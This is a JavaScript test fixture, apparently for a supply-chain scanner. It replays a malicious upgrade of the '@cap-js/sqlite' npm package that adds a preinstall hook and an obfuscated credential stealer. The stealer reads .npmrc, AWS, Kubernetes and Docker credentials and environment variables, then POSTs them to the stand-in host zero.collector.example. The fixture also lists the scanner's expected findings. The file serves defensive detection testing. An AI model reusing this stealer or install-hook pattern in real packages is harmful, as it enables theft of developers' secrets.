import { obfuscated } from '../obfuscated.js'
import { durations } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'
import { lines, startUnderBun } from '../worm.js'

const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
async function $main(){const $found=[];
for(const $place of [«.npmrc»,«.aws/credentials»,«.kube/config»,«.docker/config.json»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
$found[«push»](JSON[«stringify»](process[«env»]));
await fetch(«https://zero.collector.example/v1»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  300,
)

const manifest = { main: 'index.js' }
const command = 'node setup.mjs'

export const replay = replayUpgrade({
  description:
    'Database adapters of SAP’s framework ran a loader before install that fetched another runtime, and a stealer of credentials under ' +
    'that.',
  date: '2026-04-29',
  name: '@cap-js/sqlite',
  from: ['2.2.1', { manifest, files: { 'index.js': durations } }],
  to: [
    '2.2.2',
    {
      manifest: { ...manifest, scripts: { preinstall: command } },
      files: { 'index.js': durations, 'setup.mjs': startUnderBun('execution.js'), 'execution.js': payload },
    },
  ],
  findings: [
    ['install-script-dangerous', 'critical', { file: 'execution.js', line: payload }],
    ['remote-code-run', 'critical', { file: 'setup.mjs', line: lines.fetchRuntime }],
    ['secrets-exfiltrated', 'critical', { file: 'execution.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'execution.js', line: payload }],
    ['combined-risk', 'critical'],
    [
      'capability-added',
      'high',
      {
        file: 'setup.mjs',
        line: lines.unpackRuntime,
      },
    ],
    ['code-obfuscated', 'high', { file: 'execution.js' }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['beacon-added', 'high', { file: 'execution.js', line: payload }],
    ['network-host-added', 'medium', { file: 'execution.js', line: payload }],
  ],
})
